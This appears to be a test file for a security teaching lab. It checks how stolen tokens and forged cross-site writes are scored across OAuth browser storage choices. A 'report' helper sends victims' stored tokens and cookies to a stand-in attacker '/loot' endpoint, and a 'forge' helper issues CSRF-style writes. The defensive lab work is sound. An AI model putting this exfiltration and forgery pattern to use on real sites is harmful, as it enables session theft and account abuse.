import { describe, expect, test } from 'vitest'
import { OWN_HEADER, PLANTED, STORAGE_LAB_PATH, storageChoice } from '@/lib/oauth/browser-storage'
import { createTestLab } from '@/lib/testing/lab'
import { connected } from '@/machines/kit/connected'
import { storageFindings } from './storage-evidence'

const FORM = { 'content-type': 'application/x-www-form-urlencoded' }
const SEEN = { photos: 6, survivesReload: true }

/** A lab in which a browser's part is played by hand, with the real parties at the other end. */
async function stage(choice: string) {
  const lab = await createTestLab({ moves: connected })
  const { origins, exchanges } = lab.lab
  const base = `${origins.client}${STORAGE_LAB_PATH}/${choice}`
  const made = exchanges.flatMap(({ secrets }) => secrets)
  const session = made.findLast(({ kind, madeBy }) => kind === 'session_cookie' && madeBy === 'client')?.value
  const before = exchanges.length
  const answer = await lab.fetch(`${base}/sign-in`, {
    method: 'POST',
    headers: { ...FORM, [OWN_HEADER]: '1' },
    body: new URLSearchParams({ session: session ?? '' }),
  })
  const { access_token: token } = (await answer.json()) as { access_token: string | null }
  const cookie = answer.headers.get('set-cookie')?.split(';')[0] ?? ''
  const mine: Record<string, string> = token ? { authorization: `Bearer ${token}` } : { cookie, [OWN_HEADER]: '1' }
  const photos = token ? `${origins.resource}/photos` : `${base}/photos`
  const add = token ? photos : `${base}/add`
  const post = (title: string, headers: Record<string, string>) =>
    lab.fetch(photos, { method: 'POST', headers: { ...FORM, ...headers }, body: new URLSearchParams({ title }) })
  return {
    token,
    cookie,
    async acted(title: string) {
      return { title, status: (await post(title, mine)).status }
    },
    report: (loot: object) =>
      lab.fetch(`${origins.attacker}/loot`, {
        method: 'POST',
        body: JSON.stringify({
          sessionStorage: [],
          localStorage: [],
          cookies: [],
          authorization: null,
          written: null,
          ...loot,
        }),
      }),
    /** @param sent what the browser adds by itself */
    async forge(sent: Record<string, string> = {}) {
      await lab.fetch(`${add}?title=${PLANTED.image}+1`, { headers: sent })
      await post(`${PLANTED.form} 1`, sent)
      await lab.fetch(`${add}?title=${PLANTED.link}+1`, { headers: sent })
    },
    async findings() {
      await lab.fetch(photos, { headers: mine })
      return storageFindings(storageChoice(choice) ?? { id: 'none' }, lab.lab.exchanges.slice(before), SEEN)
    },
  }
}

describe('what a probe obtained', () => {
  test('a token counts as stolen when the drive gave Alice’s photos for it', async () => {
    const run = await stage('localStorage')
    const written = await run.acted(`${PLANTED.script} 1`)
    await run.report({ localStorage: ['something else', run.token], written })
    await run.forge()
    const found = await run.findings()
    expect(found).toMatchObject({ choice: 'localStorage', ...SEEN, acted: { status: 201, landed: true } })
    expect(found.read?.from).toBe('localStorage')
    expect(found.read?.value).not.toBe(run.token)
    expect(found.offDevice).toEqual({ photos: 7 })
    expect(found.forged.form).toEqual({ withCookie: false, status: 401, landed: false })
  })

  test('what looks like a token and was never issued is none', async () => {
    const run = await stage('localStorage')
    await run.report({ localStorage: [`${run.token}x`], authorization: 'Bearer guessed' })
    await run.forge()
    expect(await run.findings()).toMatchObject({ read: null, offDevice: null, acted: null })
  })

  test('a forged write counts when its photo is in the drive, cookie or not', async () => {
    const run = await stage('session')
    await run.report({})
    await run.forge({ cookie: run.cookie })
    const { forged } = await run.findings()
    expect(forged.form).toEqual({ withCookie: true, status: 201, landed: true })
    expect(forged.link).toEqual({ withCookie: true, status: 201, landed: true })
    expect(forged.image).toEqual({ withCookie: true, status: 201, landed: true })
  })

  test('refused for want of the header: sent, and nothing written', async () => {
    const run = await stage('session-header')
    await run.report({})
    await run.forge({ cookie: run.cookie })
    const { forged } = await run.findings()
    expect(forged.form).toEqual({ withCookie: true, status: 403, landed: false })
    expect(forged.link).toEqual({ withCookie: true, status: 403, landed: false })
  })

  test('a write that the script only claims is not in the drive', async () => {
    const run = await stage('bff')
    await run.report({ written: { title: `${PLANTED.script} 1`, status: 201 } })
    await run.forge()
    expect((await run.findings()).acted).toEqual({ status: 201, landed: false })
  })

  test('nothing is found out where the script never reported', async () => {
    const run = await stage('memory')
    await run.forge()
    await expect(run.findings()).rejects.toThrow('has not reported')
  })
})
